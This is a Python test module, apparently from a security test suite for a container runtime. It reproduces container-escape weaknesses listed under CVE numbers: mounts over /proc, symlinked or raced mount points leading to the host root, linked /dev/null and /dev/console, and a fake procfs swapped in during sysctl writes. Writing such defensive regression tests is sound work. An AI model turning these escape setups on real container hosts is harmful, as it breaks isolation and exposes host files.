"""Attacks on what is mounted: links in the image, and paths that are swapped meanwhile."""

import json
import os
import shutil
import subprocess

from host import read
from world import Bundle, Canary, DEADLINE, HERE, Weaker, case, racing, rounds


@case("CVE-2015-3627 and its like: a mount over /proc/sys, /proc/self/attr")
def _(runtime):
    for destination in ["/proc/sys", "/proc/self/attr", "/proc/sys/kernel/core_pattern", "/proc/net/dev"]:
        bundle = Bundle(runtime).args("/bin/probe", "mounts")
        kind = ("tmpfs", "tmpfs", "ro") if destination in ["/proc/sys", "/proc/self/attr"] else ("bind", "/dev/null", "bind")
        bundle.mount(destination, *kind)
        ended = bundle.run()
        if ended.code == 0:
            return Weaker(f"a mount on {destination} is accepted")


@case("CVE-2019-16884: something else than procfs on /proc")
def _(runtime):
    for kind in [("tmpfs", "tmpfs", "ro"), ("bind", "FAKE", "bind")]:
        bundle = Bundle(runtime).args("/bin/true")
        fake = bundle.path + "/fake"
        os.makedirs(fake + "/self/attr")
        bundle.keep_mounts("/dev")
        bundle.mount("/proc", *[fake if word == "FAKE" else word for word in kind])
        if bundle.run().code == 0:
            return Weaker(f"a {kind[0]} on /proc is accepted")


@case("CVE-2019-18837: links in the image as mount points")
def _(runtime):
    canary = Canary()
    for link in ["../../canary", canary.path, "../../../../../../.." + canary.path]:
        bundle = Bundle(runtime).args("/bin/true")
        bundle.link("link", link)
        bundle.mount("/link/new", "tmpfs", "tmpfs")
        bundle.run()
        if canary.harm():
            return canary.harm()


def proc_as_link(bundle):
    ended = bundle.run()
    on_evil = [mount for mount in ended.mounts() if mount["mountPoint"].startswith("/evil")]
    return f"{on_evil[0]['fsType']} is mounted on {on_evil[0]['mountPoint']}" if on_evil else None


@case("CVE-2019-19921, CVE-2023-27561: a link for /proc or /sys")
def _(runtime):
    for name in ["proc", "sys"]:
        bundle = Bundle(runtime).args("/bin/probe", "mounts")
        os.mkdir(bundle.rootfs + "/evil")
        bundle.link(name, "evil")
        harm = proc_as_link(bundle)
        if harm:
            return harm


@case("CVE-2023-27561: /proc swapped with a link (raced)")
def _(runtime):
    bundle = Bundle(runtime).args("/bin/probe", "mounts")
    os.mkdir(bundle.rootfs + "/evil")
    bundle.link("link", "evil")
    with racing(bundle.rootfs + "/proc", bundle.rootfs + "/link"):
        return rounds(lambda: proc_as_link(bundle))


def with_volume(runtime, *below):
    bundle = Bundle(runtime)
    volume = bundle.path + "/volume"
    os.mkdir(volume)
    os.mkdir(bundle.rootfs + "/volume")
    bundle.mount("/volume", "bind", volume, "rbind")
    for name in below:
        bundle.mount(f"/volume/{name}", "tmpfs", "tmpfs")
    return bundle, volume


@case("CVE-2021-30465: mount points swapped with a link to the root (raced)")
def _(runtime):
    bundle, volume = with_volume(runtime, "sub0", "sub1", "sub2")
    os.mkdir(volume + "/sub0")
    os.symlink("/../../../../../../..", volume + "/link")
    bundle.args("/bin/probe", "mounts")

    def attempt():
        mounts = bundle.run().mounts()
        device = next((mount["device"] for mount in mounts if mount["mountPoint"] == "/"), None)
        roots = [mount["root"] for mount in mounts if mount["device"] == device and HERE.name not in mount["root"]]
        return f"{roots[0]} of the host is mounted" if roots else None
    with racing(volume + "/sub0", volume + "/link"):
        return rounds(attempt)


@case("CVE-2024-45310: missing mount points swapped with a link to the host (raced)")
def _(runtime):
    canary = Canary()
    bundle, volume = with_volume(runtime, "swapped/a/b/c")
    bundle.args("/bin/true")
    os.mkdir(volume + "/swapped")
    os.symlink("/../../../../../.." + canary.path, volume + "/link")

    def attempt():
        bundle.run()
        for place in ["swapped", "link"]:
            if not os.path.islink(f"{volume}/{place}"):
                shutil.rmtree(f"{volume}/{place}/a", ignore_errors=True)
        return canary.harm()
    with racing(volume + "/swapped", volume + "/link"):
        return rounds(attempt)


def with_volume_for_dev(runtime):
    bundle = Bundle(runtime)
    volume = bundle.path + "/dev"
    os.mkdir(volume)
    bundle.config["mounts"] = [m for m in bundle.config["mounts"] if not m["destination"].startswith("/dev")]
    bundle.mount("/dev", "bind", volume, "rbind")
    bundle.write("etc/secret", "secret")
    bundle.write("etc/other", "of another file")
    bundle.config["linux"]["maskedPaths"] = ["/etc/secret"]
    bundle.sh("cat /etc/secret")
    return bundle, volume


def unmasked(bundle):
    out = bundle.run().out
    return f"a masked path shows {out!r}" if out else None


@case("CVE-2025-31133: the container's null device is a link")
def _(runtime):
    for target in ["/etc/other", "/proc/version"]:
        bundle, volume = with_volume_for_dev(runtime)
        os.symlink(target, volume + "/null")
        harm = unmasked(bundle)
        if harm:
            return harm


@case("CVE-2025-31133: the container's null device is swapped (raced)")
def _(runtime):
    bundle, volume = with_volume_for_dev(runtime)
    os.mknod(volume + "/null", 0o20666, os.makedev(1, 3))
    os.symlink("/proc/version", volume + "/link")
    with racing(volume + "/null", volume + "/link"):
        return rounds(lambda: unmasked(bundle))


@case("CVE-2025-52565: /dev/console is a link")
def _(runtime):
    canary = Canary()
    for target in ["/proc/sysrq-trigger", "/target", canary.path + "/console"]:
        bundle = Bundle(runtime).args("/bin/probe", "mounts")
        bundle.config["process"]["terminal"] = True
        bundle.config["mounts"] = [m for m in bundle.config["mounts"] if m["destination"] not in ["/dev"]]
        bundle.config["root"]["readonly"] = False
        bundle.write("target", "")
        for name in ["pts", "shm", "mqueue"]:
            os.mkdir(f"{bundle.rootfs}/dev/{name}")
        bundle.link("dev/console", target)
        bundle.write_config()
        command = [runtime.path, "--root", bundle.state, "run", "--bundle", bundle.path, bundle.id]
        ended = subprocess.run(["script", "-qec", " ".join(command), "/dev/null"], stdin=subprocess.DEVNULL,
                               capture_output=True, text=True, timeout=DEADLINE, check=False)
        bundle.delete()
        try:
            text = ended.stdout[ended.stdout.find("{") : ended.stdout.rfind("}") + 1]
            points = [mount["mountPoint"] for mount in json.loads(text)["mounts"]]
        except (ValueError, KeyError, TypeError):
            points = []
        if target in points:
            return f"the terminal is mounted on {target}"
        if canary.harm():
            return canary.harm()


@case("CVE-2025-52881: procfs swapped with a fake one while sysctls are written (raced)")
def _(runtime):
    bundle = Bundle(runtime)
    fake = bundle.rootfs + "/fake"
    name = "sys/net/ipv4/ping_group_range"
    os.makedirs(fake + "/sys/net/ipv4")
    for path in ["1/attr"]:
        os.makedirs(f"{fake}/{path}")
    bundle.write("fake/" + name, "untouched\n")
    os.symlink("1", fake + "/self")
    os.symlink("1", fake + "/thread-self")
    bundle.config["linux"]["sysctl"] = {"net.ipv4.ping_group_range": "5 7"}
    bundle.sh(f"cat /proc/{name} /fake/{name}")
    before = read("/proc/" + name)

    def attempt():
        ended = bundle.run()
        for place in [bundle.rootfs + "/proc/", fake + "/"]:
            text = read(place + name)
            if text and text != "untouched\n":
                return f"the fake procfs was written: {text.strip()!r}"
        if read("/proc/" + name) != before:
            return "the host's was changed"
        lines = set(ended.out.split("\n")) - {"", "5\t7", "untouched"}
        return f"it is not set: {sorted(lines)}" if ended.code == 0 and lines else None
    with racing(bundle.rootfs + "/proc", fake):
        return rounds(attempt)


def with_its_own_dev(runtime, *mounts):
    """/dev is the image's, and can be written."""
    bundle = Bundle(runtime).args("/bin/true")
    bundle.config["root"]["readonly"] = False
    bundle.keep_mounts(*mounts)
    return bundle


@case("CVE-2026-41579: a link for /dev")
def _(runtime):
    canary = Canary()
    for target in ["/outside-dev", "../../" + os.path.basename(canary.path), canary.path]:
        for kept in [["/proc"], ["/proc", "/dev/pts"], ["/proc", "/dev", "/dev/pts"]]:
            bundle = with_its_own_dev(runtime, *kept)
            outside = bundle.rootfs + "/outside-dev"
            os.mkdir(outside)
            bundle.write("outside-dev/ptmx", "marker")
            bundle.link("dev", target)
            bundle.run()
            if os.listdir(outside) != ["ptmx"] or read(outside + "/ptmx") != "marker":
                return f"written where the link leads: {sorted(os.listdir(outside))[:3]}"
            if canary.harm():
                return canary.harm()


@case("CVE-2026-41579: /dev swapped with a link to the host (raced)")
def _(runtime):
    canary = Canary()
    bundle = with_its_own_dev(runtime, "/proc")
    bundle.link("link", "/../../../../../.." + canary.path)

    def attempt():
        bundle.run()
        return canary.harm()
    with racing(bundle.rootfs + "/dev", bundle.rootfs + "/link"):
        return rounds(attempt)


@case("CVE-2026-47766: links in /dev")
def _(runtime):
    canary = Canary()
    bundle = with_its_own_dev(runtime, "/proc")
    for name in ["fd", "stdin", "stdout", "ptmx", "console", "core"]:
        bundle.link("dev/" + name, canary.path + "/" + ("sub" if name == "fd" else "file"))
    bundle.run()
    return canary.harm()
